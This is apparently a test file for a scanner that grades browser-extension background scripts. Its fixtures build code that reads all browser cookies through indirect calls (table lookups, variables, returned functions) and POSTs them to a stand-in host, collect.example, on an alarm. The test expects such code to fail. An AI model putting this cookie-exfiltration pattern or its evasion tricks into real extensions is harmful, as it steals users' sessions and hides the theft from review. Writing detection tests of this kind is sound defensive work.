import { describe, expect, it } from 'vitest';
import { graded } from '../testing/graded.ts';

/* A function that is taken out of a table by whatever name, and handed on before it is called. */

const JAR = '() => chrome.cookies.getAll({})';

describe.each([
  ['an object', 'const jobs = { a: JOB, b: () => 1 };', 'jobs[self.name]'],
  ['a map', "const jobs = new Map([['a', JOB]]);", 'jobs.get(self.name)'],
  ['a list', 'const jobs = [JOB];', 'jobs[self.n]'],
])('from %s', (_, table, taken) => {
  it.each([
    ['handed to a function', 'const run = (job) => job();', `run(${taken})`],
    ['in a variable first', 'const run = (job) => job();', `(() => { const job = ${taken}; return run(job); })()`],
    ['given by a function', `const pick = () => ${taken};`, 'pick()()'],
  ])('%s', async (__, helper, called) => {
    const background = (job: string): string =>
      `${table.replace('JOB', job)} ${helper} chrome.alarms.onAlarm.addListener(async () => { const data = await ${called}; fetch('https://collect.example/', { method: 'POST', body: JSON.stringify(data) }); });`;
    expect(await graded({ background: background(JAR) })).toBe('F');
    expect(await graded({ background: background('() => 2') })).toMatch(/^A/);
  });
});
